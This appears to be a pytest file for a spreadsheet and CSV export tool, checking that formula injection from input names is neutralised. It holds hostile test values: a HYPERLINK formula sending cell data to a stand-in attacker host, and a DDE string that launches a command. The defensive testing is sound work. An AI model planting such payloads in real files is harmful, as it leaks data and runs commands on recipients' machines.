"""Hostile input: the xlsx and CSV evalkit writes never carry a formula or a control character
taken from an input (formula injection), and never crash on one."""

from __future__ import annotations

import io

import pandas as pd
from openpyxl import load_workbook

from evalkit.cases.assess import assess_cases
from evalkit.cases.sampling import select_sample
from evalkit.cli import main
from evalkit.testing.casegen import generate_cases, write_export

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_findings_workbook_keeps_a_formula_like_project_name_as_text(form, tmp_path, capsys):
    path = form("inj.xlsx", funds=(100, 100, 95, 10, "90%", 9.5))  # a wrong rate: one finding at least
    wb = load_workbook(path)
    ws = wb.active
    for row in ws.iter_rows():
        for cell in row:
            if cell.value == "项目名称":
                target = ws.cell(cell.row, cell.column + 1, FORMULA)
                target.data_type = "s"  # the unit typed it as text: a text cell beginning with "="
    wb.save(path)
    out = tmp_path / "复核发现.xlsx"
    assert main(["check", str(path), "--format", "xlsx", "-o", str(out)]) == 0
    back = load_workbook(out)
    cells = [c for ws in back.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in [c.value for c in cells], "the text is kept, as text"


def test_case_sample_and_csv_keep_formula_like_unit_names_as_text(tmp_path, capsys):
    units = [FORMULA, "+cmd|' /C calc'!A0", "@SUM(1)", "甲单位"]
    frame = generate_cases(400, units=units, seed=1)
    stats = assess_cases(frame)
    sample = select_sample(stats.cases, seed=1, size=40, by="duty_unit")
    path = sample.to_excel(tmp_path / "抽样.xlsx")
    book = load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in {c.value for c in cells}
    export = write_export(frame, tmp_path / "案件导出.csv")
    assert main(["cases", str(export), "--by", "unit", "--format", "csv", "--no-cache"]) == 0
    text = capsys.readouterr().out
    shown = set(pd.read_csv(io.StringIO(text), dtype=str)["duty_unit"])
    assert not any(u.startswith(("=", "+", "@", "-")) for u in shown)
    assert "'" + FORMULA in shown
